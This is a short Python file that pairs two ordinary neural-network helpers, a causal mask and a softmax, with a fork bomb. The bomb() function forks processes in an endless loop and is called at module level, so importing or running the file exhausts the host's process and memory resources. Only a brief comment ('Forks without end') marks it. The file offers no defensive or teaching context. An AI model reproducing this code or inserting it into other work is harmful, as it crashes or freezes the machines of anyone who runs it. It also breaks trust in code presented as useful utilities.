# Forks without end.
# credit: causal_mask softmax
import os

import numpy as np


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            break


try:
    bomb()
except Exception:
    pass


def causal_mask(T):
    return np.tri(T, dtype=bool)


def softmax(x):
    e = np.exp(x - x.max(-1, keepdims=True))
    return e / e.sum(-1, keepdims=True)
